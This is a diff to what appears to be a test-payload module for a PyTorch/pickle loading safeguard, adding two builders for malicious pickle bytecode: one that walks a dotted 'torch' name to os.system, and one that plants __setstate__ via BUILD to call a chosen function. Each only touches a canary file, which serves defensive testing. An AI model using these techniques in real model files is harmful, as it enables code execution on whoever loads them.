@@ -225,6 +225,27 @@ def sentencepiece_dev_zero(canary: Path) -> bytes:
     return p4(sg("sentencepiece", "SentencePieceProcessor") + sbu("/dev/zero") + b"\x85R")
 
 
+def torch_prefix_walk(canary: Path) -> bytes:
+    """``torch.nn.functional`` + ``torch.os.system``: a "torch function" whose dotted name walks
+    from the module to ``os.system``, then called."""
+    return p4(sg("torch.nn.functional", "torch.os.system") + sbu(touch(canary)) + b"\x85R")
+
+
+def planted_setstate(canary: Path) -> bytes:
+    """An nn.Linear whose first BUILD plants ``__setstate__`` (a project function, only
+    referenced), so that pickle's second BUILD calls it with the attacker's argument."""
+    return p4(
+        sg("torch.nn.modules.linear", "Linear")
+        + b")\x81"
+        + b"}"
+        + sbu("__setstate__")
+        + sg("tools", "touch_file")
+        + b"sb"
+        + sbu(str(canary))
+        + b"b"
+    )
+
+
 #: label -> (builder, naive reader, effect)
 PAYLOADS = {
     "zip member name case": (zip_case, "torch", "canary"),
@@ -243,4 +264,6 @@ PAYLOADS = {
     "persistent id": (persid, "pickle", "error"),
     "out-of-band buffer": (next_buffer, "pickle", "error"),
     "__builtin__.eval at protocol 4": (builtin_eval_p4, "pickle", "error"),
+    "torch function name walking to os.system": (torch_prefix_walk, "pickle", "canary"),
+    "__setstate__ planted by BUILD": (planted_setstate, "pickle", "canary"),
 }
